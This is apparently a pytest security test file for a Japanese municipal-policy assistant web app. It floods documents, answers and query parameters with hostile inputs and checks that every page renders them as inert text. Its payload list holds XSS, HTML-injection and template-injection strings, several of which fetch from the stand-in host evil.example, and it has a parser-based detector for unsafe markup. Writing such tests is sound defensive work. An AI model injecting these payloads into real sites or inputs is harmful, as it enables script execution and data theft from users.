"""Whatever documents, citizens and addresses say stays text at the desk: nothing runs, nothing is fetched."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from selectolax.lexbor import LexborHTMLParser

from assistant.desk.people import Act, ActKind, Role
from assistant.documents import Contact
from assistant.gaps import Gap
from assistant.models import AskedInVain, Outcome
from assistant.ports import Index
from tests.desk.fakes import BEGAN, Browser, FakeDesk
from tests.fakes import FakeChunks, FakeFacts, fake_answer, fake_index
from tests.front.payloads import payloads

MARK = "evil.example"
_OURS = re.compile(r"/(?!/)|#|data:,")
OF_THE_DESK = (
    f'<script src="https://{MARK}/x"></script>',
    "<script>alert(1)</script>",
    f'"><img src=https://{MARK}/x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    f'<a href="https://{MARK}">x</a>',
    f"![x](https://{MARK}/x.png)",
    f"[x](https://{MARK})",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "<style>@import url(https://evil.example/x)</style>",
    f"<link rel=stylesheet href=//{MARK}/x>",
    f"<meta http-equiv=refresh content='0;url=https://{MARK}'>",
    f"<base href=https://{MARK}/>",
    f"<form action=https://{MARK}><button>x",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    f'" onmouseover=alert(1) style="background:url(https://{MARK})" x="',
    f'" hx-get="https://{MARK}/x" hx-trigger="load" x="',
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
)
PAYLOADS = (*OF_THE_DESK, *payloads())
PATHS = (
    "/desk",
    "/desk/initiatives",
    "/desk/initiatives/27",
    "/desk/initiatives/28",
    "/desk/departments",
    "/desk/years",
    "/desk/years/令和9年度",
    "/desk/compare?a=27&b=28",
    "/desk/compare?from=令和8年度&to=令和9年度",
    "/desk/glossary",
    "/desk/procedures",
    "/desk/sources",
    "/desk/why?q=目標は",
    "/desk/feedback",
    "/desk/audit",
    "/desk/switches",
    "/desk/users",
    "/gaps",
)
ASKED = ("/desk/initiatives", "/desk/glossary", "/desk/procedures", "/desk/sources", "/desk/why", "/login")


def hostile_index(payload: str) -> Index:
    """The toy index in which everything that a document says is this."""
    index = fake_index()
    facts, chunks = index.facts, index.chunks
    initiatives = tuple(
        replace(i, title=payload, policy_title=payload, departments=(payload,), irregular_note=payload)
        for i in facts.initiatives
    )
    said = FakeFacts(
        initiatives=initiatives,
        facts=tuple(replace(f, indicator=payload, value=payload, unit=payload) for f in facts.facts),
        terms=tuple(replace(t, name=payload, aliases=(payload,), definition=payload) for t in facts.terms),
        procedures=tuple(
            replace(p, name=payload, field=payload, service=payload, basis=payload, note=payload)
            for p in facts.procedures
        ),
        contacts=(Contact("contacts", payload, payload, payload, payload, payload, payload, payload, "contacts#s1"),),
    )
    assert isinstance(chunks, FakeChunks)
    sources = tuple(
        replace(s, title=payload, as_of=payload, provenance=tuple(replace(p, title=payload) for p in s.provenance))
        for s in chunks.all_sources
    )
    sentences = tuple(replace(s, text=payload) for s in chunks.all_sentences)
    return replace(index, facts=said, chunks=replace(chunks, all_sources=sources, all_sentences=sentences))


@pytest.fixture(scope="module")
def attackable() -> tuple[FakeDesk, Browser]:
    desk = FakeDesk()
    return desk, desk.as_(Role.ADMIN)


@pytest.fixture(scope="module", params=range(len(PAYLOADS)))
def attacked(request: pytest.FixtureRequest, attackable: tuple[FakeDesk, Browser]) -> tuple[Browser, str]:
    desk, browser = attackable
    payload = PAYLOADS[request.param]
    index = hostile_index(payload)
    desk.documents = index
    desk.store.given.clear()
    desk.given(payload, payload)
    desk.gaps.open = [
        Gap("0123456789", payload, (AskedInVain(payload, BEGAN, Outcome.PARTIAL, payload, True, payload),))
    ]
    citation = fake_answer().citations[0].model_copy(update={"title": payload, "quote": payload})
    desk.assistant.answer = fake_answer(text=payload, citations=(citation,))
    desk.store.noted[:] = [Act(BEGAN, payload, ActKind.SWITCHED_OFF, payload, payload)]
    return browser, payload


def unsafe(html: str) -> list[str]:
    """Everything on a page that would run, fetch from elsewhere or lead a form away."""
    page = LexborHTMLParser(html)
    found = [node.html or "" for node in page.css("iframe, object, embed, base, style, math, meta[http-equiv]")]
    for node in page.css("*"):
        for name, value in node.attributes.items():
            text = (value or "").strip().lower()
            foreign = name in ("src", "href", "action", "formaction", "hx-get") and not _OURS.match(text)
            if name.startswith("on") or name == "style" or foreign:
                found.append(f"{node.tag} {name}={value}")
    own = ("/style/htmx.min.js", "/style/desk.js")
    return found + [s.html or "" for s in page.css("script") if s.attributes.get("src") not in own]


@pytest.mark.parametrize("payload", [p for p in OF_THE_DESK if p.startswith("<") and "form" not in p])
def test_the_check_would_notice(payload: str) -> None:
    assert unsafe(f"<!doctype html><body>{payload}") != []


def test_what_is_kept_is_shown_as_text(attacked: tuple[Browser, str]) -> None:
    browser, _ = attacked
    for path in PATHS:
        page = browser.get(path)
        assert page.status_code == 200, path
        assert unsafe(page.text) == [], path


def test_what_is_asked_is_shown_as_text(attacked: tuple[Browser, str]) -> None:
    browser, payload = attacked
    for path in ASKED:
        page = browser.http.get(path, params={"q": payload, "next": payload}, headers={"accept": "text/html"})
        assert unsafe(page.text) == [], path
